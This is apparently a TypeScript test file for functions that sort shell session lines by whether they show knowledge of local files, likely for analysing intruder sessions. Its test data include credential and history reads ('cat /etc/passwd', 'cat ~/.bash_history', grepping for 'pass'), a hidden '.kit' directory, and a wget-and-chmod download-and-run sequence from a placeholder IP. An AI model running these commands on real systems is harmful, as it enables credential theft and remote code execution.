import { describe, expect, it } from 'vitest'
import { foundSince, withoutFound } from './commands.ts'

describe('lines that only look around', () => {
  it.each([
    'cat handover-q3.txt',
    'cat /var/tmp/handover-q3.txt',
    'ls -la /srv/it/handover.txt',
    'sudo rm -f /opt/backup/run.log',
    'cat todo.txt | head',
    'cd /srv/it',
  ])('tell nothing by what they look at: %s', (line) => {
    expect(withoutFound([line, 'uname -a'])).toEqual(['uname -a'])
  })

  it.each([
    'ls -la',
    'cat /etc/passwd',
    'cat /proc/net/tcp',
    'ls -lart /opt',
    'cat ~/.bash_history',
    'cat /opt/x | grep pass',
    'cat notes > /tmp/.x',
    'cd /dev/shm; ls -la .kit',
    'curl -O http://192.0.2.1/x',
  ])('are kept where they name what stands everywhere, or do something: %s', (line) => {
    expect(withoutFound([line])).toEqual([line])
  })

  it('are kept as a manner where their options are nobody else’s', () => {
    expect(withoutFound(['tail -n 57 /srv/app/today.log'])).toEqual(['tail -n 57 <path>'])
  })

  it('name what the same hand made', () => {
    const lines = ['mkdir -p /tmp/.kit', 'ls -la /tmp/.kit', 'wget http://192.0.2.1/a -O run.sh', 'chmod +x run.sh']
    expect(withoutFound(lines)).toEqual(lines)
  })

  it('say since when what stands there may be known, also within a line that does more', () => {
    const at = (...texts: readonly string[]) => foundSince(texts.map((text, ts) => ({ ts, text })))
    expect(at('uname -a', 'cat /etc/passwd', 'ls -la')).toBe(Number.POSITIVE_INFINITY)
    expect(at('uname -a', 'cd /srv/it && cat handover.txt', 'cat x')).toBe(1)
    expect(at('id; cat todo.txt')).toBe(0)
  })
})
